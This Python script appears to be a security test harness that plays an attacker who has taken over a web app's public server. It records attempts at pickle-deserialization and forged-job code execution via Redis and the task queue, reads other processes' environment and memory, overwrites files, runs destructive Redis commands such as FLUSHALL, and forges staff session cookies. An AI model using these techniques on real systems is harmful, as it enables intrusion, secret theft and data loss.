"""Somebody who has taken over the public door: its user, environment, database role, Redis user, files and
keys. Run as that user; writes all that could be read into a folder, and says on standard output, a line of
JSON each, what was tried and what came of it.

Wants three things: words and films of before, a reader's place for what comes, and code that runs in the
staff's side (it would make the file MARKER).
"""

import json
import os
import pickle
import secrets
import subprocess
import time
from pathlib import Path

import at_database
from django.conf import settings
from django.core import signing
from loot import MARKER, MINE, PUBLIC_PORT, STAFF_PORT, Tally, keep
from phone import Phone
from redis import Redis
from redis.exceptions import RedisError

from feedback import codes, tickets
from media import looks, passes

HOSTS = {
    "public": settings.PUBLIC_ADDRESS.removeprefix("https://"),
    "staff": settings.STAFF_ADDRESS.removeprefix("https://"),
}


def redis_keys():
    client = Redis.from_url(os.environ["REDIS_URL"])
    refused, read = 0, 0
    prefix = settings.REDIS_PREFIX
    names = [
        f"{prefix}-staff:1:allauth:rl:login",
        f"{prefix}-staff:1:any",
        "rq:job:any",
        "rq:queue:work",
    ]
    bomb = pickle.dumps(Bomb())
    for command in (
        *(("GET", name) for name in names), *(("SET", name, bomb) for name in names),
        ("SET", f"{prefix}-shared:1:catalogue:changed", bomb), ("SET", f"{prefix}-public:1:any", bomb),
        ("SET", f"{prefix}-public:1:catalogue", json.dumps({"a": 1})), ("GET", f"{prefix}-shared:1:catalogue:changed"),
        ("SCAN", "0"), ("KEYS", "*"), ("CONFIG", "GET", "*"), ("CONFIG", "SET", "dir", "/var"), ("EVAL", "return 1", "0"),
        ("MONITOR",), ("ACL", "LIST"), ("SAVE",), ("FLUSHALL",), ("CLIENT", "LIST"), ("DEBUG", "OBJECT", "x"),
        ("LRANGE", "rq:queue:clips", "0", "-1"), ("SUBSCRIBE", "any"), ("PUBLISH", "rq:pubsub:any", "{}"),
    ):  # fmt: skip
        try:
            keep("redis", client.execute_command(*command))
            read += 1
        except RedisError:
            refused += 1
    return f"{read} commands done (its own keys, and what it shares), {refused} refused"


class Bomb:
    def __reduce__(self):
        return (Path.touch, (MARKER,))


def jobs(made):
    """Tasks that were never meant: programs, things to call afterwards, pickles, rows of the queue."""
    client, pushed = Redis.from_url(os.environ["REDIS_URL"]), 0
    touch = ["pathlib.Path.touch", None, [str(MARKER)], {}]
    calls = [
        touch, ["os.system", None, [f"touch {MARKER}"], {}], ["subprocess.call", None, [["touch", str(MARKER)]], {}],
        ["builtins.eval", None, [f"open({str(MARKER)!r}, 'w')"], {}], ["feedback.actions.leaving.erase", None, [1], {}],
        ["media.tasks.work_on_clip", None, ["1; touch"], {}], ["boards.tasks.build_pack", None, [10**9], {}],
    ]  # fmt: skip
    bodies = [json.dumps(call).encode() for call in calls] + [pickle.dumps(Bomb())]
    for body in bodies:
        name = secrets.token_hex(16)
        job = {
            "data": body, "origin": "work", "status": "queued", "created_at": "2026-01-01T00:00:00Z",
            "enqueued_at": "2026-01-01T00:00:00Z", "success_callback_name": "os.system", "failure_callback_name": "os.system",
            "meta": pickle.dumps(Bomb()), "timeout": "60", "description": "", "worker_name": "", "result_ttl": "60",
            "webhooks": json.dumps([{"url": "http://127.0.0.1:9/", "method": "POST", "job_status": "failed"}]),
        }  # fmt: skip
        try:
            for field, value in job.items():
                client.hset(f"rq:job:{name}", field, value)
            client.rpush("rq:queue:work", name)
            pushed += 1
        except RedisError:
            continue
    tally = Tally()
    for path in ("os.system", "pathlib.Path.touch"):
        tally.sql(
            made, "INSERT INTO django_tasks_database_dbtaskresult (id, status, enqueued_at, args_kwargs, priority, task_path, "
            "worker_ids, queue_name, backend_name, run_after, exception_class_path, traceback) VALUES "
            "(gen_random_uuid(), 'READY', now(), %s, 0, %s, '[]', 'work', 'work', now(), '', '')",
            [json.dumps({"args": [str(MARKER)], "kwargs": {}}), path], name=path, keeps=True,
        )  # fmt: skip
    time.sleep(3)
    return f"{pushed} jobs on Redis and {len(tally.done)} rows of the queue put in"


def its_files():
    """All that this user can read, and whether it can exchange what staff trust."""
    read, refused, changed = 0, 0, []
    for folder in (
        Path(settings.VAR_DIR),
        Path(settings.VAR_DIR).parent / "heard-staff",
        Path("/etc/heard"),
    ):
        found = subprocess.run(["find", str(folder), "-type", "f"], capture_output=True, text=True)
        refused += found.stderr.count("Permission denied")
        for name in found.stdout.splitlines():
            try:
                body = Path(name).read_bytes()
            except OSError:
                refused += 1
                continue
            read += 1
            if not Path(name).is_relative_to(settings.STATIC_ROOT):
                keep("files", body)
    for place in (
        settings.STATIC_ROOT,
        settings.VAULT_PUBLIC_KEYS,
        settings.MEDIA_ROOT,
        settings.BASE_DIR,
    ):
        for attempt in (_move, _write):
            if attempt(Path(place)):
                changed.append(str(place))
    return f"{read} files read (sealed ones too), {refused} refused; exchanged: {', '.join(changed) or 'nothing'}"


def _move(place):
    try:
        place.rename(f"{place}.old")
        place.mkdir()
    except OSError:
        return False
    return True


def _write(place):
    try:
        first = next(each for each in place.rglob("*") if each.is_file())
        first.write_bytes(b"mine")
    except (OSError, StopIteration):
        return False
    return True


def other_processes():
    """What other programs of this machine were given, and their memory."""
    read, refused = 0, 0
    for process in Path("/proc").iterdir():
        if not process.name.isdecimal() or is_mine(process):
            continue
        for name in ("environ", "mem", "maps"):
            try:
                with (process / name).open("rb") as file:
                    found = file.read(1 << 20)
                keep("processes", found)
                read += bool(found)
            except OSError:
                refused += 1
    return f"{read} read, {refused} refused"


def is_mine(process):
    try:
        return process.stat().st_uid == os.geteuid()
    except OSError:  # it has just ended
        return False


def own_memory():
    """The memory of the door itself, opened just now: what came before has not passed through it."""
    read = 0
    for process in Path("/proc").iterdir():
        if not process.name.isdecimal() or not is_mine(process):
            continue
        try:
            regions = [line.split() for line in (process / "maps").read_text().splitlines()]
            with (process / "mem").open("rb", buffering=0) as memory:
                for place, rights, *_ in regions:
                    start, stop = (int(edge, 16) for edge in place.split("-"))
                    if rights.startswith("rw") and process.name != str(os.getpid()):
                        memory.seek(start)
                        keep("memory", memory.read(stop - start))
                        read += stop - start
        except OSError:
            continue
    return (
        f"{read >> 20} MB of its own processes read"
        if read
        else "this machine lets no program look"
    )


def staff_door(made):
    """Cookies: names of sessions' rows, what the public door's secret signs, nothing at all."""
    cookies = [
        "",
        secrets.token_urlsafe(24),
        signing.dumps({"_auth_user_id": "1"}),
        signing.dumps(1, key=settings.SECRET_KEY),
    ]
    opened, asked = 0, 0
    for cookie in cookies:
        for name in ("__Host-s", "s", "sessionid"):
            phone = Phone(STAFF_PORT, HOSTS["staff"])
            for path in ("/desk/", "/boards/", "/admin/", "/people/", "/desk/audit/"):
                status, _headers, body = phone.ask(path, Cookie=f"{name}={cookie}")
                keep("staff-door", body)
                opened, asked = opened + (status == 200), asked + 1
    return f"{asked} pages asked for, {opened} opened"


def child_pages(made):
    """Tickets, looks and passes of my own making, for every contribution, film and holder."""
    phone, asked, played = Phone(PUBLIC_PORT, HOSTS["public"]), 0, 0
    for (number,) in made.execute("SELECT id FROM feedback_contribution").fetchall():
        ticket = tickets.issue(tickets.Ticket(number, secrets.token_bytes(32)))
        for deed in ("look", "cancel"):
            keep("child-pages", phone.ask("/return/", {"ticket": ticket, "do": deed})[2])
            asked += 1
    for (number,) in made.execute("SELECT id FROM media_rendition").fetchall():
        for root in (secrets.token_bytes(32), MINE.private.private_bytes_raw()):
            status, _headers, body = phone.ask(
                f"/clips/look/{looks.issue(looks.Look(number, root))}/"
            )
            keep("child-pages", body)
            played, asked = played + (status == 200), asked + 1
    for (holder,) in made.execute("SELECT key_hash FROM feedback_contribution").fetchall():
        given = passes.issue(passes.new_for(bytes(holder)))
        for deed in ("", "look"):
            keep("child-pages", phone.ask("/clips/mine/", {"pass": given, "do": deed})[2])
            asked += 1
    for _ in range(3):
        guess = codes.code_for(secrets.token_bytes(16))
        keep("child-pages", phone.ask("/return/", {"code": guess})[2])
    if played:
        keep("opened-film", b"played")
    return f"{asked} pages with tickets, looks and passes of its own; {played} films played"


def main():
    made, phone = at_database.database(), Phone(PUBLIC_PORT, HOSTS["public"])
    for tried, attempt in (
        ("reads every column of every table", lambda: at_database.every_column(made)),
        ("goes round the grants", lambda: at_database.round_the_grants(made)),
        ("looks into other programs", other_processes),
        ("looks into the door's memory", own_memory),
        ("reads and exchanges files", its_files),
        ("opens everything with every key", lambda: at_database.open_everything(made)),
        ("asks the staff door with made-up cookies", lambda: staff_door(made)),
        ("asks the child's side with made-up tickets", lambda: child_pages(made)),
        ("reads and writes in Redis", redis_keys),
        ("forges tasks", lambda: jobs(made)),
        ("writes its key wherever it may write", lambda: at_database.my_key_everywhere(made)),
        (
            "puts a code of its own in each child's place",
            lambda: at_database.my_code_everywhere(made, phone),
        ),
        ("asks the worker for every film anew", lambda: at_database.renditions(made)),
        ("opens everything again", lambda: at_database.open_everything(made)),
        ("asks for every film again", lambda: child_pages(made)),
        ("reads every column again", lambda: at_database.every_column(made)),
    ):
        try:
            came = attempt()
        except Exception as error:
            came = f"broke off: {type(error).__name__}: {error}"[:200]
        print(json.dumps([tried, came]), flush=True)


if __name__ == "__main__":
    main()
